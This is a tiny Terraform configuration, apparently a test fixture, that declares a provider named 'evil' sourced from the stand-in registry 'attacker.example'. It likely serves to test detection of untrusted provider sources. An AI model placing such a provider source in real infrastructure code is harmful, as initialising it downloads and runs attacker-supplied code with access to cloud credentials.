terraform {
  required_providers {
    evil = {
      source = "attacker.example/evil/evil"
    }
  }
}
